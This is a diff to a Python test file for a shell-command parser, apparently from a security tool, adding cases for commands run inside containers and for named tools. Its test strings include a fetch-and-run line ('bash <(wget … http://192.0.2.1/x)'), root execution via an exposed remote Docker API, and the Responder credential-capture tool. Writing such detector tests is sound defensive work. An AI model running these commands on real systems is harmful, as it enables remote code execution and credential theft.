@@ -108,6 +108,24 @@ def test_a_pipeline_knows_its_neighbours() -> None:
     assert [act.name for act in read("bash <(wget -qO- http://192.0.2.1/x)").acts[-1].before] == ["wget"]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "docker exec web id",
+        "docker -H tcp://192.0.2.4:2375 exec -u 0 web id",
+        "docker compose -f a.yml exec web id",
+        "kubectl --kubeconfig /tmp/k -n shop exec web -- id",
+    ],
+)
+def test_what_is_run_in_a_container_is_found_behind_any_options(text: str) -> None:
+    assert last(text) == ["id"]
+
+
+def test_a_script_that_is_known_as_a_tool_is_that_tool_whatever_runs_it() -> None:
+    assert last("python3 -u /opt/x/Responder.py -I eth0") == ["Responder", "-I", "eth0"]
+    assert [argv(act) for act in read("python3 manage.py migrate").acts] == [["python", "manage.py", "migrate"]]
+
+
 def test_redirections_belong_to_the_act_also_those_of_a_group() -> None:
     assert read("echo a > /tmp/x 2>&1 < /dev/null").acts[0].writes == ["/tmp/x"]
     assert [act.writes for act in read("{ id; uname -a; } >> /tmp/log").acts] == [["/tmp/log"], ["/tmp/log"]]
